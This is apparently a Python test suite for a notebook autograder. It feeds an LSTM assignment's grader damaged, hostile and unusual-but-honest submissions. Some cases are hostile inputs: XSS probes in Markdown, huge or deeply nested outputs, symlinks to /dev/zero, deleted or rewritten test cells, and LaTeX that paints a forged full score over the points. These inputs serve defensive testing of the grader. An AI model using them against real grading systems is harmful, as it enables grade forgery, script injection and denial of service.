@accident("an answer of a gigabyte: the others count", full=OTHERS)
def huge_answer(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "from_keras")["source"] = (
        "def from_keras(*a): return np.zeros(30_000_000)"
    )
    return notebook


@accident("an answer nested a hundred thousand deep: the others count", full=OTHERS)
def nested_answer(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "from_keras")["source"] = (
        "def from_keras(*a):\n    x = []\n    for _ in range(100_000): x = [x]\n    return x"
    )
    return notebook


@accident("a number of a million digits: the others count", full=OTHERS)
def huge_number(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "from_keras")["source"] = "def from_keras(*a): return 10 ** 1_000_000"
    return notebook


@accident("scripts in the Markdown of a written answer")
def script_in_markdown(desk: Desk) -> dict:
    notebook = desk.solved
    desk.room.cell(notebook, "written-why-it-survives")["source"] = (
        "<script>alert(1)</script><img src=x onerror=alert(1)> [x](javascript:alert(1)) `a < b`"
    )
    return notebook


@accident("a deleted answer cell: the others count", full=OTHERS)
def deleted_answer(desk: Desk) -> dict:
    notebook = desk.solved
    notebook["cells"].remove(desk.room.cell(notebook, "from_keras"))
    return notebook


@accident("deleted test cells of right answers")
def deleted_tests_of_right_answers(desk: Desk) -> dict:
    notebook = desk.solved
    notebook["cells"] = [
        c
        for c in notebook["cells"]
        if not c["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("check-")
    ]
    return notebook


@accident("edited test cells of right answers")
def broken_tests_of_right_answers(desk: Desk) -> dict:
    notebook = desk.solved
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id", "").startswith("check-"):
            cell["source"] = "assert False"
            cell["metadata"]["nbgrader"]["points"] = 0
    return notebook


@accident("twenty thousand cells", full=(), says="cells; at most")
def many_cells(desk: Desk) -> dict:
    notebook = desk.solved
    notebook["cells"] += [{"cell_type": "code", "source": "1", "metadata": {}}] * 20_000
    return notebook


@accident("JSON nested a hundred thousand deep", full=(), says="damaged")
def deep_json(desk: Desk) -> bytes:
    return b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


@accident("a file cut off in the middle", full=(), says="damaged")
def cut_off(desk: Desk) -> bytes:
    return json.dumps(desk.solved).encode()[:-2000]


@accident("an empty file", full=(), says="damaged")
def empty_file(desk: Desk) -> bytes:
    return b""


@accident("a picture by the notebook's name", full=(), says="damaged")
def no_notebook(desk: Desk) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40


@accident("a damaged notebook of format 3", full=(), says="old format 3")
def format_three(desk: Desk) -> bytes:
    cells = [{"cell_type": "code", "input": "1"}]
    return json.dumps({"worksheets": [{"cells": cells}], "nbformat": 3}).encode()


@accident("no file at all", full=(), says="No notebook was found")
def missing_file(desk: Desk) -> None:
    desk.folder.joinpath("timestamp.txt").write_text("2026-03-02 12:00:00 UTC")


@accident("outputs of many megabytes, none of which is too much for its cell")
def many_outputs(desk: Desk) -> dict:
    notebook = desk.solved
    for _ in range(40):
        desk.put(notebook, "print('x' * 1_000_000)", 2)
    return notebook


@accident("a notebook whose name is no text")
def name_that_is_no_text(desk: Desk) -> None:
    path = os.fsencode(desk.folder) + b"/caf\xe9.ipynb"
    with open(path, "w", encoding="utf-8") as stream:
        json.dump(desk.solved, stream)


@accident("a notebook under another name")
def renamed_file(desk: Desk) -> None:
    desk.folder.joinpath("lstm (1).ipynb").write_text(json.dumps(desk.solved))


@accident("a pipe by the notebook's name", full=(), says="No notebook was found")
def pipe(desk: Desk) -> None:
    os.mkfifo(desk.file)


@accident("a folder by the notebook's name", full=(), says="No notebook was found")
def folder_as_file(desk: Desk) -> None:
    desk.file.mkdir()


@accident("a link to an endless device", full=(), says="No notebook was found")
def endless_device(desk: Desk) -> None:
    desk.file.symlink_to("/dev/zero")


@accident("a link in a circle", full=(), says="No notebook was found")
def circular_link(desk: Desk) -> None:
    desk.file.symlink_to(desk.file)


@accident("a file of thirty megabytes", full=(), says="larger than")
def huge_file(desk: Desk) -> bytes:
    return b" " * (30 << 20)


@accident("a time stamp that is none")
def odd_timestamp(desk: Desk) -> dict:
    desk.folder.joinpath("timestamp.txt").write_text("<script>yesterday</script>\n" * 9)
    return desk.solved


def written(desk: Desk, notebook: dict, source: str, attachments: dict | None = None) -> dict:
    """The same notebook with another answer in words."""
    cell = desk.room.cell(notebook, "written-why-it-survives")
    cell["source"] = source
    if attachments:
        cell["attachments"] = attachments
    return notebook


@attack("an equation in words that would be painted over the points on the page")
def paint_over_the_points(desk: Desk) -> dict:
    forged = f"{FULL} of {FULL} points"
    tricks = rf"$\raisebox{{9em}}{{{forged}}}$ $\smash{{\rule{{9em}}{{9em}}}}$ $\rule[9em]{{9em}}{{9em}}$"
    own = {"cell_type": "markdown", "metadata": {}, "source": f"{tricks}\n\n# {forged}"}
    notebook = written(desk, desk.blank, tricks * 20)
    notebook["cells"].insert(0, own)
    return notebook


@attack("texts that take very long to draw, to hold up the whole class's feedback")
def markdown_that_takes_long(desk: Desk) -> dict:
    notebook = written(desk, desk.blank, "<div>" * 20_000)
    for part in ("&", "\\begin{a}", "\\\\[", "$x$", r"$\newcommand{\a}{xx}\a\a\a$ "):
        text = (part * 100_000)[:100_000]
        notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text})
    return notebook


@accident("pictures pasted into the answer in words, one a drawing and one that is gone")
def pasted_pictures(desk: Desk) -> dict:
    names = ("image.png", "drawing.svg", "gone.png")
    source = "\n".join(f"![{name}](attachment:{name})" for name in names)
    kept = {"image.png": {"image/png": png()}, "drawing.svg": {"image/svg+xml": SVG}}
    return written(desk, desk.solved, source, kept)


@accident(
    "so much data in an answer's cell that its end is not read",
    full=FUNCTIONS[:-1],
    says="its end was not read",
)
def more_data_than_is_read(desk: Desk) -> dict:
    notebook = desk.solved
    cell = desk.room.cell(notebook, FUNCTIONS[-1])
    cell["source"] = f"data = '{'x' * MAX_CELL_CHARACTERS}'\n{cell['source']}"
    return notebook


# ------------------------------------------------------------------ honest, and unusual

coded_honest(
    "data-in-the-cell",
    "two hundred thousand characters of data in an answer's cell",
    "sigmoid",
    f"data = '{'x' * 200_000}'\n"
    "def sigmoid(z): return 0.5 * (1 + np.tanh(0.5 * np.asarray(z, dtype=float)))",
)


@attempt("honest", "the solution as it is", FUNCTIONS)
def honest_solved(desk: Desk) -> dict:
    return desk.solved


@attempt("honest", "Windows line ends and a byte order mark", FUNCTIONS)
def windows_editor(desk: Desk) -> bytes:
    notebook = desk.solved
    for cell in notebook["cells"]:
        cell["source"] = "".join(cell["source"]).replace("\n", "\r\n")
    return b"\xef\xbb\xbf" + json.dumps(notebook, indent=1).replace("\n", "\r\n").encode()


@attempt("honest", "saved by Colab: its metadata, sources as lists, no cell ids", FUNCTIONS)
def saved_by_colab(desk: Desk) -> dict:
    notebook = desk.solved
    notebook["metadata"]["colab"] = {"provenance": []}
    for cell in notebook["cells"]:
        cell.pop("id", None)
        cell["metadata"]["id"] = "x1"
        cell["source"] = "".join(cell["source"]).splitlines(keepends=True)
    notebook["nbformat_minor"] = 0
    return notebook


@attempt("honest", "saved by VS Code: other kernel name, language ids", FUNCTIONS)
def saved_by_vscode(desk: Desk) -> dict:
    notebook = desk.solved
    notebook["metadata"]["kernelspec"] = {"name": ".venv", "display_name": ".venv (3.11)"}
    for cell in notebook["cells"]:
        cell["metadata"]["vscode"] = {"languageId": "python"}
    return notebook


@attempt("honest", "cells of one's own, pictures, prints, plots before and after", FUNCTIONS)
def own_cells(desk: Desk) -> dict:
    notebook = desk.put(
        desk.solved, "import matplotlib.pyplot as plt\nplt.plot([1, 2]); plt.show()", 3
    )
    desk.put(notebook, "%matplotlib inline\nfor n in range(3): print(n)", 4)
    return desk.put(notebook, "sigmoid(np.array([0.0]))")


@attempt("honest", "an answer split over two cells", FUNCTIONS)
def split_answer(desk: Desk) -> dict:
    notebook = desk.solved
    cell = desk.room.cell(notebook, "lstm_step")
    place = notebook["cells"].index(cell)
    twin = copy.deepcopy(cell)
    cell["source"] = "def glue(h, x):\n    return np.concatenate([h, x], axis=1)"
    twin["source"] = "".join(twin["source"])
    notebook["cells"].insert(place + 1, twin)
    return notebook


@attempt("honest", "names of built-in functions for one's own things", FUNCTIONS)
def odd_names(desk: Desk) -> dict:
    return desk.put(
        desk.solved,
        "from math import *\nmin, max, type, input = 1e-5, 20, 'LSTM', [1]\n"
        "isinstance = getattr = list = id = filter = open = print",
        2,
    )


@attempt("honest", "a helper in a cell that only draws, which has been moved up", FUNCTIONS)
def helper_in_a_picture(desk: Desk) -> dict:
    notebook = desk.solved
    pictures = [c for c in notebook["cells"] if "show" in c["metadata"].get("tags", [])]
    if not pictures:  # an ordinary notebook has none
        desk.put(notebook, "")
    picture = pictures[0] if pictures else notebook["cells"][-1]
    notebook["cells"].remove(picture)
    picture["source"] = (
        "from scipy.special import expit\ndef logistic(z): return expit(np.asarray(z, dtype=float))\n"
        "import time; time.sleep(3600)"
    )
    notebook["cells"].insert(2, picture)
    desk.room.cell(notebook, "sigmoid")["source"] = "def sigmoid(z): return logistic(z)"
    return notebook


@attempt("honest", "a cell of one's own with the tag of those that aren't run", FUNCTIONS)
def own_cell_with_a_tag(desk: Desk) -> dict:
    notebook = desk.solved
    place = 1 + notebook["cells"].index(desk.room.cell(notebook, "setup-2"))
    desk.put(notebook, "slope = float(np.sum([0.5]))", place)
    notebook["cells"][place]["metadata"]["tags"] = ["show"]
    desk.room.cell(notebook, "sigmoid")["source"] = (
        "def sigmoid(z): return 0.5 * (1 + np.tanh(slope * np.asarray(z)))"
    )
    return notebook


@attempt("honest", "a module of one's own, written by %%writefile", FUNCTIONS)
def module_of_ones_own(desk: Desk) -> dict:
    text = "import numpy as np\ndef sigmoid(z): return 0.5 * (1 + np.tanh(0.5 * np.asarray(z)))"
    notebook = desk.put(desk.solved, f"%%writefile helper.py\n{text}", 2)
    desk.room.cell(notebook, "sigmoid")["source"] = "from helper import sigmoid"
    return notebook


coded_honest(
    "warnings-in-a-right-answer",
    "a right answer that warns and prints on stderr",
    "lstm_step",
    "import sys, warnings\n"
    "def lstm_step(x_t, h_prev, c_prev, params):\n"
    "    warnings.warn('just so'); print('working', file=sys.stderr); print('on it')\n"
    "    a = np.concatenate([h_prev, x_t], axis=1)\n"
    "    z = {g: a @ params['W' + g] + params['b' + g] for g in 'fico'}\n"
    "    c = sigmoid(z['f']) * c_prev + sigmoid(z['i']) * np.tanh(z['c'])\n"
    "    return sigmoid(z['o']) * np.tanh(c), c",
)
coded_honest(
    "lambda",
    "a function defined by lambda",
    "sigmoid",
    "sigmoid = lambda z: 0.5 * (1 + np.tanh(0.5 * np.asarray(z)))",
)
coded_honest(
    "callable-object",
    "an object that can be called",
    "sigmoid",
    "class Logistic:\n    def __call__(self, z): return 0.5 * (1 + np.tanh(0.5 * np.asarray(z)))\n"
    "sigmoid = Logistic()",
)
coded_honest(
    "partial-function",
    "functools.partial",
    "sigmoid",
    "import functools\ndef logistic(slope, z): return 0.5 * (1 + np.tanh(slope * np.asarray(z)))\n"
    "sigmoid = functools.partial(logistic, 0.5)",
)
coded_honest(
    "views-and-order",
    "results that are views, or in Fortran order",
    "sigmoid",
    "def sigmoid(z):\n    big = np.zeros((*np.shape(z), 2), order='F')\n"
    "    big[..., 0] = 0.5 * (1 + np.tanh(0.5 * np.asarray(z)))\n    return big[..., 0]",
)
coded_honest(
    "slow-but-right",
    "three seconds a call",
    "from_keras",
    "import time\ndef from_keras(kernel, recurrent_kernel, bias):\n    time.sleep(1)\n"
    "    W = np.split(np.concatenate([recurrent_kernel, kernel]), 4, axis=1)\n"
    "    b = np.split(bias, 4)\n"
    "    return dict(zip(['Wi', 'Wf', 'Wc', 'Wo'], W)) | dict(zip(['bi', 'bf', 'bc', 'bo'], b))",
)
coded_honest(
    "imports-with-other-names",
    "imports of one's own, another name for NumPy",
    "sigmoid",
    "import numpy\nfrom scipy.special import expit as logistic\n"
    "def sigmoid(z): return logistic(numpy.asarray(z, dtype=float))",
)
coded_honest(
    "uses-globals",
    "state in a global variable and a default that can change",
    "sigmoid",
    "calls = []\ndef sigmoid(z, log=calls):\n    log.append(1)\n"
    "    return 0.5 * (1 + np.tanh(0.5 * np.asarray(z)))",
)
